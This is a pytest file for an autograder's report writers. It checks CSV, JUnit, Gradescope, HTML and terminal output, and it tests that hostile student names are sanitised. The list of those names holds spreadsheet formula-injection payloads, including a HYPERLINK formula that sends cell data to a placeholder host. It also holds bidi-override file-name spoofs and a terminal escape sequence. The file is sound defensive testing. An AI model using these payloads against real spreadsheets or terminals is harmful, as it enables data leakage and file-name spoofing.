"""Output formats: one function each in writers.WRITERS, a flag each on the command line, and `report`
converting a report.json into any of them."""
import csv
import json
import subprocess
import sys
import xml.etree.ElementTree as ET

from autograder import results
from autograder.results import Run, Status
from autograder.writers import WRITERS
from tests.helpers import REPO
from tests.helpers import TINY_ASSIGNMENT as ASSIGNMENT


def report(tmp_path, students=("ana", "bob")):
    """A report.json of the tiny course: ana right, bob wrong on square's values."""
    rows = []
    for student in students:
        outcomes = {(p.grade_id, t.name): [Run("", Status.PASSED, "")]
                    for p in ASSIGNMENT.parts for t in ASSIGNMENT.tests[p.grade_id]}
        if student == "bob":
            outcomes[("square", "test_values_match_the_reference")] = [Run("", Status.FAILED, "o dobro", ("twice",))]
        rows.append(results.submission_result(ASSIGNMENT, student, f"{student}.ipynb", outcomes))
    path = tmp_path / "report.json"
    WRITERS["json"].write(results.Report(ASSIGNMENT.name, "bubblewrap", {}, rows), path)
    return path


def cli(*args):
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], cwd=REPO, capture_output=True,
                          text=True, timeout=120)


def test_every_writer_is_a_flag_of_grade_and_of_report():
    grade, convert = cli("grade", "--help").stdout, cli("report", "--help").stdout
    for name in WRITERS:
        assert f"--{name}" in grade
        assert f"--{name}" in convert or name == "json"


def test_report_turns_a_report_json_into_csv_and_junit(tmp_path):
    path = report(tmp_path)
    proc = cli("report", path, "--csv", tmp_path / "s.csv", "--junit", tmp_path / "s.xml")
    assert proc.returncode == 0, proc.stderr
    with open(tmp_path / "s.csv", newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert float(rows["bob"]["score"]) == ASSIGNMENT.max_score - 1 and rows["bob"]["diagnosis"] == "twice"
    suites = ET.parse(tmp_path / "s.xml").getroot()
    cases = {s.get("name"): s for s in suites}
    count = sum(len(t) for t in ASSIGNMENT.tests.values())
    assert int(cases["bob"].get("tests")) == count and cases["bob"].get("failures") == "1"
    assert cases["ana"].get("failures") == "0" and len(cases["ana"].findall("testcase")) == count
    failure = cases["bob"].find("testcase[@name='test_values_match_the_reference']/failure")
    assert failure.get("message") == "o dobro" and failure.get("type") == "twice"
    assert not (tmp_path / "report").exists()  # no class report unless asked for


def test_gradescope_results_are_for_one_submission(tmp_path):
    assert cli("report", report(tmp_path), "--gradescope", tmp_path / "g.json").returncode == 2
    one = tmp_path / "one"
    one.mkdir()
    assert cli("report", report(one, ("bob",)), "--gradescope", one / "g.json").returncode == 0
    results_json = json.loads((one / "g.json").read_text())
    assert results_json["score"] == ASSIGNMENT.max_score - 1 and len(results_json["tests"]) == 4


# What students write reaches the instructor's own files: never as a formula, never with invisible characters.
HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"nota")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1",
                 " =1+1", "\u202e=1+1", "\uff1dSUM(A1)", "ana\u202egpj.exe", "bia\u200b\u2066x\u2069\ufeff",
                 "caio\x1b]0;pwned\x07\x00"]
INVISIBLE_CATEGORIES = {"Cc", "Cf", "Zl", "Zp"}


def invisible(text):
    import unicodedata

    return [c for c in text if unicodedata.category(c) in INVISIBLE_CATEGORIES and c not in "\r\n\t"]


def hostile_report(tmp_path):
    rows = []
    for k, student in enumerate(HOSTILE_NAMES):
        outcomes = {(p.grade_id, t.name): [Run("", Status.PASSED, "")]
                    for p in ASSIGNMENT.parts for t in ASSIGNMENT.tests[p.grade_id]}
        row = results.submission_result(ASSIGNMENT, student, f"{student}/n\u202e{k}.ipynb", outcomes,
                                        error="=1+1 \u202eerro" if k == 1 else None)
        row.flags = [f"=célula square: {student}", "@outra"] if k == 2 else []
        rows.append(row)
    rows[3].score = -1.0  # (no score is negative; if one were, it would stay a number)
    path = tmp_path / "report.json"
    WRITERS["json"].write(results.Report(ASSIGNMENT.name, "bubblewrap", {}, rows), path)
    return path


def test_csv_text_is_never_a_formula_and_never_invisible(tmp_path):
    proc = cli("report", hostile_report(tmp_path), "--csv", tmp_path / "s.csv")
    assert proc.returncode == 0, proc.stderr
    text = (tmp_path / "s.csv").read_text(encoding="utf-8")
    assert invisible(text) == [] and "\t" not in text
    with open(tmp_path / "s.csv", newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    header, rows = table[0], table[1:]
    assert len(rows) == len(HOSTILE_NAMES) and header[-1] == "flags"
    text_columns = ["student", "notebook", "needs_review", "error", "diagnosis", "flags"]
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            assert column in text_columns or float(cell) is not None  # every other column is a number
            assert column not in text_columns or not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), cell
    assert [r[0] for r in rows][:3] == ["'" + name for name in HOSTILE_NAMES[:3]]  # neutralised as OWASP says
    assert rows[9][0] == "anagpj.exe" and rows[10][0] == "biax"  # the override and the zero widths are gone
    assert rows[1][header.index("error")] == "'=1+1 erro"
    assert rows[2][header.index("flags")] == f"'=célula square: {HOSTILE_NAMES[2]}; @outra"
    assert [float(r[header.index("score")]) for r in rows][3] == -1.0  # a number stays a number
    assert '-1.0,' in text.splitlines()[4]  # (unquoted)
    # Control: the same rows written raw would start cells with "=" and carry U+202E.
    raw = tmp_path / "raw.csv"
    with open(raw, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([[name] for name in HOSTILE_NAMES])
    assert raw.read_text(encoding="utf-8").startswith('"=HYPERLINK(') and "\u202e" in raw.read_text(encoding="utf-8")


def test_one_cleaning_for_the_terminal_the_csv_and_the_page(tmp_path):
    import io
    import unicodedata

    from markupsafe import escape
    from rich.console import Console

    from autograder import render
    from autograder.class_report import write_class_report
    from autograder.writers import spreadsheet_text

    every = "".join(chr(c) for c in range(0x110000)
                    if unicodedata.category(chr(c)) in INVISIBLE_CATEGORIES and not 0xD800 <= c < 0xE000)
    name = "ana" + every + "silva"
    cleaned = render.clean(name)
    assert cleaned == "ana" + " " * sum(c.isspace() for c in every) + "silva"
    assert spreadsheet_text(name) == cleaned and render.plain(name).plain == cleaned
    report = results.Report.from_dict(json.loads(hostile_report(tmp_path).read_text()))
    report.submissions[0].student = name
    html = write_class_report(report, tmp_path / "page").read_text(encoding="utf-8")
    assert str(escape(render.clean(name, keep="\n\t"))) in html and invisible(html) == []
    out = io.StringIO()
    render.table(report, Console(file=out, width=200, force_terminal=False))
    assert invisible(out.getvalue()) == []
    # Control: escaping alone keeps U+202E, and Rich prints it as given.
    assert "\u202e" in str(escape(name))
    out = io.StringIO()
    Console(file=out).print("a\u202eb")
    assert "\u202e" in out.getvalue()


def test_flags_are_a_csv_column_and_a_mark_in_the_table_not_grader_failures(tmp_path):
    import io

    from rich.console import Console

    from autograder import render

    report = results.Report.from_dict(json.loads(hostile_report(tmp_path).read_text()))
    assert report.needs_review == []  # the exit status reads this: flags do not change it
    proc = cli("report", tmp_path / "report.json", "--csv", tmp_path / "s.csv")
    assert proc.returncode == 0
    out = io.StringIO()
    render.table(report, Console(file=out, width=200))
    text = out.getvalue()
    assert "1 submission(s) flagged for a look" in text and f"=célula square: {HOSTILE_NAMES[2]}; @outra" in text
    assert "! = flagged" in text and "need review" not in text
    flagged_line = next(line for line in text.splitlines() if "+1+1" in line and "│" in line)
    assert "!" in flagged_line.split("│")[-3]  # the score column of the flagged row
    # Control: a class without flags has no mark and no list.
    for row in report.submissions:
        row.flags = []
    out = io.StringIO()
    render.table(report, Console(file=out, width=200))
    assert "flagged" not in out.getvalue()
